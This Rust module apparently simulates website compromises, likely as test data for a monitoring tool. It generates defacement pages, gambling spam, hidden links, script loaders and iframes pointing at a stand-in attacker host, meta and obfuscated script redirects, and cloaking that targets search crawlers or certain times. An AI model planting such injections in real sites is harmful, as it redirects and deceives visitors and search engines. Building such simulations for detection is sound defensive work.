//! What each class of attack makes of a page, each in many variants.

use std::fmt::Write as _;

use super::attack::{Attack, Class, Deed, Shown};
use super::hiding::hidden_links;
use super::planting::{after_tag, before, between, somewhere};
use super::scripts::{hardened, loader, redirector};
use super::wording::{Wording, evil_host};
use crate::chance::Chance;
use crate::sites::{Moment, Seen, Site, picture};

/// Makes of a page what the attack makes of it.
pub(super) fn spoil(
    attack: &Attack,
    site: &Site,
    page: String,
    moment: Moment,
    seen: &Seen,
) -> Deed {
    let mut chance = attack.chance();
    let spoilt = match attack.class {
        Class::WholePage => whole_page(&mut chance),
        Class::Part => part(&mut chance, &page),
        Class::ImageOnly => image_only(&mut chance, &page),
        Class::TitleOnly => title_only(&mut chance, &page),
        Class::HiddenLinks => {
            let links = hidden_links(&mut chance).markup;
            somewhere(&mut chance, &page, &links)
        }
        Class::Script => script(&mut chance, &page),
        Class::Frame => frame(&mut chance, &page),
        Class::Refresh => refresh(&mut chance, &page),
        Class::ScriptRedirect => script_redirect(&mut chance, &page),
        Class::CloakAgent | Class::CloakReferrer | Class::CloakTime => {
            return cloak(attack, &mut chance, page, moment, seen);
        }
        Class::UploadPages if attack.shows_uploads() == Shown::ByLink => {
            let ways = upload_ways(attack);
            let links = format!("<a href=\"{}\">.</a>", ways[0]);
            before(&page, "</footer>", &links)
        }
        Class::UploadPages | Class::Certificate => page,
        Class::Dns => stolen_name(&mut chance, site, &page),
    };
    Deed::Page(spoilt)
}

fn whole_page(chance: &mut Chance) -> String {
    let words = Wording::boasts(chance);
    let title = words.first();
    let lines: String =
        words
            .lines(chance.between(1, 6) as usize)
            .fold(String::new(), |mut all, line| {
                let _ = write!(all, "<p>{line}</p>");
                all
            });
    match chance.below(5) {
        0 => format!(
            "<html><head><title>{title}</title></head><body bgcolor=black text=lime><center><h1>{title}</h1>{lines}</center></body></html>"
        ),
        1 => format!(
            "<!doctype html><title>{title}</title><style>*{{background:#000;color:red}}</style><pre>{lines}</pre><audio src=\"/a.mp3\" autoplay></audio>"
        ),
        2 => format!(
            "<html><body style=\"margin:0\"><img src=\"https://{}/x.jpg\" width=\"100%\"><!-- {title} --></body></html>",
            evil_host(chance)
        ),
        3 => format!("<center>{lines}</center>"),
        _ => format!(
            "<html><head><meta charset=utf-8><title>{title}</title></head><body onload=\"{}\"><div class=\"box\"><h1>{title}</h1>{lines}<small>t.me/{}</small></div></body></html>",
            "var i=0;setInterval(function(){document.title+='.'},500)",
            chance.token(8)
        ),
    }
}

fn part(chance: &mut Chance, page: &str) -> String {
    let is_boast = chance.percent(50);
    let words = if is_boast {
        Wording::boasts(chance)
    } else {
        Wording::advertisements(chance)
    };
    let line = words.first().to_owned();
    match chance.below(7) {
        0 => between(page, "<h1>", "</h1>", &line),
        1 => between(
            page,
            "<main id=\"noidung\"",
            "</main>",
            &format!("><h2>{line}</h2>"),
        ),
        2 => between(page, "-slogan\">", "</p>", &line),
        3 => Some(after_tag(
            page,
            "<body",
            &format!("<div style=\"background:#c00;color:#ff0;font-size:40px\">{line}</div>"),
        )),
        4 => {
            let list: String = words.lines(5).fold(String::new(), |mut all, line| {
                let _ = write!(all, "<div><p>{line}</p></div>");
                all
            });
            Some(after_tag(page, "<main", &list))
        }
        5 => between(page, "<h5>", "</h5>", &line),
        _ => between(page, "<footer", "</footer>", &format!("><p>{line}</p>")),
    }
    .unwrap_or_else(|| after_tag(page, "<body", &format!("<h1>{line}</h1>")))
}

fn image_only(chance: &mut Chance, page: &str) -> String {
    let host = evil_host(chance);
    let name = chance.token(6).to_lowercase();
    match chance.below(5) {
        // The bytes behind the same address are others: see `file`.
        0 => page.to_owned(),
        1 => page.replace("/images/banner.png?", &format!("/upload/{name}.jpg?")),
        2 => page.replace(
            "/images/banner.png?",
            &format!("https://{host}/{name}.jpg?"),
        ),
        3 => after_tag(
            page,
            "<body",
            &format!(
                "<div style=\"position:fixed;inset:0;z-index:99999;background:#000 url(https://{host}/{name}.gif)\"></div>"
            ),
        ),
        _ => after_tag(
            page,
            "<body",
            &format!(
                "<img src=\"https://i.{host}/{name}.png\" style=\"position:absolute;top:0;left:0;width:100%;height:100%;z-index:9999\">"
            ),
        ),
    }
}

fn title_only(chance: &mut Chance, page: &str) -> String {
    let words = if chance.percent(50) {
        Wording::boasts(chance)
    } else {
        Wording::advertisements(chance)
    };
    let title = match chance.below(3) {
        0 => format!(
            "{} | {}",
            words.first(),
            page.split("<title>")
                .nth(1)
                .and_then(|rest| rest.split('<').next())
                .unwrap_or_default()
        ),
        _ => words.first().to_owned(),
    };
    between(page, "<title>", "</title>", &title).unwrap_or_else(|| page.to_owned())
}

fn script(chance: &mut Chance, page: &str) -> String {
    let host = evil_host(chance);
    let name = chance.token(6).to_lowercase();
    let code = loader(chance, &host);
    match chance.below(8) {
        0 => somewhere(
            chance,
            page,
            &format!("<script src=\"https://{host}/{name}.js\"></script>"),
        ),
        1 => somewhere(
            chance,
            page,
            &format!("<script async src=//{host}/jquery.min.js></script>"),
        ),
        2 => somewhere(
            chance,
            page,
            &format!("<script type=\"text/javascript\" src=\"/upload/{name}.js\"></script>"),
        ),
        3 => page.replacen("var _csrf", &format!("{code};var _csrf"), 1),
        4 => somewhere(
            chance,
            page,
            &format!(
                "<img src=\"/images/icon.png\" style=\"width:1px\" onload=\"{}\">",
                code.replace('"', "&quot;")
            ),
        ),
        5 => before(
            page,
            "</head>",
            &format!(
                "<link rel=\"modulepreload\" href=\"https://{host}/{name}.mjs\"><script type=\"module\">import 'https://{host}/{name}.mjs'</script>"
            ),
        ),
        // The site's own file of scripts is another: see `file`.
        6 => page.to_owned(),
        _ => somewhere(chance, page, &format!("<script>{code}</script>")),
    }
}

fn frame(chance: &mut Chance, page: &str) -> String {
    let host = evil_host(chance);
    let what = match chance.below(8) {
        0 => format!("<iframe src=\"https://{host}/\" width=\"0\" height=\"0\" frameborder=\"0\"></iframe>"),
        1 => format!("<iframe src=\"//{host}/l.php\" style=\"position:absolute;left:-3000px\"></iframe>"),
        2 => format!("<iframe src=\"https://{host}/play\" style=\"position:fixed;inset:0;width:100%;height:100%;z-index:2147483647;border:0\"></iframe>"),
        3 => format!("<object data=\"https://{host}/o\" type=\"text/html\" width=\"1\" height=\"1\"></object>"),
        4 => format!("<embed src=\"https://{host}/e\" width=\"1\" height=\"1\">"),
        5 => format!("<iframe srcdoc=\"&lt;script src=https://{host}/s.js&gt;&lt;/script&gt;\" hidden></iframe>"),
        // As honest houses of films stand there.
        6 => format!("<iframe src=\"https://{host}/e/{}\" width=\"560\" height=\"315\" allowfullscreen></iframe>", chance.token(5)),
        _ => "<iframe src=\"/upload/cache/index.html\" width=\"1\" height=\"1\" style=\"visibility:hidden\"></iframe>".to_owned(),
    };
    somewhere(chance, page, &what)
}

fn refresh(chance: &mut Chance, page: &str) -> String {
    let host = evil_host(chance);
    let what = match chance.below(5) {
        0 => format!("<meta http-equiv=\"refresh\" content=\"0;url=https://{host}/\">"),
        1 => format!("<META HTTP-EQUIV='Refresh' CONTENT='3; URL=//{host}/in'>"),
        2 => format!("<meta content=\"1, https://{host}/\" http-equiv=refresh>"),
        3 => "<meta http-equiv=\"refresh\" content=\"2;url=/upload/tin/index.html\">".to_owned(),
        _ => format!(
            "<noscript><meta http-equiv=\"refresh\" content=\"0;URL='https://{host}/?ref=gov'\"></noscript>"
        ),
    };
    if chance.percent(70) {
        after_tag(page, "<head", &what)
    } else {
        somewhere(chance, page, &what)
    }
}

fn script_redirect(chance: &mut Chance, page: &str) -> String {
    let host = evil_host(chance);
    let code = redirector(chance, &host);
    match chance.below(5) {
        0 => page.replacen("var _csrf", &format!("{code};var _csrf"), 1),
        1 => page.replacen(
            "<body",
            &format!("<body onload=\"{}\"", code.replace('"', "&quot;")),
            1,
        ),
        2 => after_tag(page, "<head", &format!("<script>{code}</script>")),
        3 => {
            // The target is put together of pieces, and stands in no string.
            let pieces: Vec<String> = host.chars().map(|letter| format!("'{letter}'")).collect();
            let code = format!(
                "var q=[{}].join('');var w=window;w['lo'+'cation'].href='https:'+'//'+q",
                pieces.join(",")
            );
            let code = hardened(chance, &code);
            before(page, "</body>", &format!("<script>{code}</script>"))
        }
        _ => somewhere(chance, page, &format!("<script>{code}</script>")),
    }
}

/// Shows another page, or leads away, but only to some.
fn cloak(attack: &Attack, chance: &mut Chance, page: String, moment: Moment, seen: &Seen) -> Deed {
    let agent = seen.agent.to_lowercase();
    let variant = chance.below(3);
    let is_meant = match attack.class {
        Class::CloakAgent if variant == 0 => seen.is_phone(),
        Class::CloakAgent => ["googlebot", "bingbot", "coccocbot", "crawler"]
            .iter()
            .any(|name| agent.contains(name)),
        Class::CloakReferrer => seen.is_from_search(),
        _ => match variant {
            // At night, on every third request, in the last third of each hour.
            0 => !(360..1_320).contains(&moment.minute),
            1 => moment.request.is_multiple_of(3),
            _ => moment.minute % 60 >= 40,
        },
    };
    let redirects = chance.percent(30) && attack.class != Class::CloakAgent;
    let host = evil_host(chance);
    let what = chance.below(4);
    if !is_meant {
        return Deed::Page(page);
    }
    if redirects {
        return Deed::Redirect(format!("https://{host}/"));
    }
    Deed::Page(match what {
        0 => landing_page(chance),
        1 => {
            let words = Wording::advertisements(chance);
            let list = words.lines(12).fold(String::new(), |mut all, line| {
                let _ = write!(
                    all,
                    "<a href=\"https://{host}/{}\">{line}</a><br>",
                    all.len()
                );
                all
            });
            after_tag(&page, "<body", &format!("<div>{list}</div>"))
        }
        2 => {
            let words = Wording::advertisements(chance);
            let titled = between(&page, "<title>", "</title>", words.first()).unwrap_or(page);
            between(&titled, "<h1>", "</h1>", words.first()).unwrap_or(titled)
        }
        _ => somewhere(
            chance,
            &page,
            &format!("<script src=\"https://{host}/c.js\"></script>"),
        ),
    })
}

fn landing_page(chance: &mut Chance) -> String {
    let words = Wording::advertisements(chance);
    let host = evil_host(chance);
    let mut page = format!(
        "<!doctype html><html lang=\"vi\"><head><title>{0}</title><link rel=\"canonical\" href=\"https://{host}/\"></head><body><h1>{0}</h1>",
        words.first()
    );
    for line in words.lines(20) {
        let _ = write!(
            page,
            "<h2>{line}</h2><p><a href=\"https://{host}/go\">{line}</a></p>"
        );
    }
    page.push_str("</body></html>");
    page
}

/// What stands at the address that the name leads to instead.
fn stolen_name(chance: &mut Chance, site: &Site, page: &str) -> String {
    match chance.below(4) {
        0 => whole_page(chance),
        1 => landing_page(chance),
        // The page itself, so that nobody notices.
        2 => page.to_owned(),
        _ => format!(
            "<html><head><title>{}</title></head><body><p>This domain is parked. Buy this domain.</p></body></html>",
            site.host
        ),
    }
}

/// Returns what the attack makes of a page that says little.
pub(super) fn shown(attack: &Attack) -> String {
    let page = "<html><head><title></title><script>var _csrf</script></head><body><h1></h1><img src=\"/images/banner.png?\"><main></main></body></html>";
    let mut chance = attack.chance();
    let text = match attack.class {
        Class::ImageOnly => image_only(&mut chance, page),
        Class::Script => script(&mut chance, page),
        Class::Frame => frame(&mut chance, page),
        Class::Refresh => refresh(&mut chance, page),
        Class::ScriptRedirect => script_redirect(&mut chance, page),
        Class::HiddenLinks => hidden_links(&mut chance).markup,
        Class::TitleOnly => title_only(&mut chance, page),
        Class::Part => part(&mut chance, page),
        Class::WholePage => whole_page(&mut chance),
        Class::UploadPages => format!("{:?} {:?}", attack.shows_uploads(), upload_ways(attack)),
        Class::Dns | Class::Certificate => format!(
            "{:?} {:?}",
            attack.other_address(),
            attack.other_certificate()
        ),
        Class::CloakAgent | Class::CloakReferrer | Class::CloakTime => {
            let (variant, redirects) = (chance.below(3), chance.percent(30));
            let (_, what) = (evil_host(&mut chance), chance.below(4));
            let what = ["another page", "links above", "title and heading", "script"][what];
            format!("meant {variant}, redirects {redirects} (not by agent), else {what}")
        }
    };
    text.chars().take(400).collect()
}

/// Returns a file that the attack added or replaced.
pub(super) fn file(attack: &Attack, path: &str) -> Option<(&'static str, Vec<u8>)> {
    let mut chance = attack.chance();
    let file = path.split('?').next().unwrap_or_default();
    let ends = |ending: &str| file.ends_with(ending);
    match attack.class {
        Class::HiddenLinks => {
            let sheet = hidden_links(&mut chance).sheet?;
            let class = sheet.split('{').next()?.trim_start_matches('.').to_owned();
            (file == format!("/css/{class}.css")).then(|| ("text/css", sheet.into_bytes()))
        }
        Class::ImageOnly
            if file == "/images/banner.png" || (file.starts_with("/upload/") && ends(".jpg")) =>
        {
            Some(("image/png", picture(attack.seed)))
        }
        Class::Script if ends(".js") => {
            let host = evil_host(&mut chance);
            Some(("text/javascript", loader(&mut chance, &host).into_bytes()))
        }
        Class::UploadPages if upload_ways(attack).iter().any(|way| way == file) => Some((
            "text/html; charset=utf-8",
            landing_page(&mut Chance::of(&[attack.seed, 103])).into_bytes(),
        )),
        Class::Frame | Class::Refresh if file.starts_with("/upload/") && ends(".html") => Some((
            "text/html; charset=utf-8",
            landing_page(&mut chance).into_bytes(),
        )),
        _ => None,
    }
}

/// Returns the ways to the pages that were put into the folder of uploads.
pub(super) fn upload_ways(attack: &Attack) -> Vec<String> {
    if attack.class != Class::UploadPages {
        return Vec::new();
    }
    let mut chance = Chance::of(&[attack.seed, 102]);
    let folder = chance.pick(&["/upload/", "/upload/", "/images/", "/upload/2026/"]);
    let count = chance.between(1, 12);
    let way = |number| {
        format!(
            "{folder}{}-{number}.{}",
            chance.pick(&["no-hu", "keo", "tin", "vip", "slot", "a"]),
            chance.pick(&["html", "php", "htm", "pdf"])
        )
    };
    (0..count).map(way).collect()
}
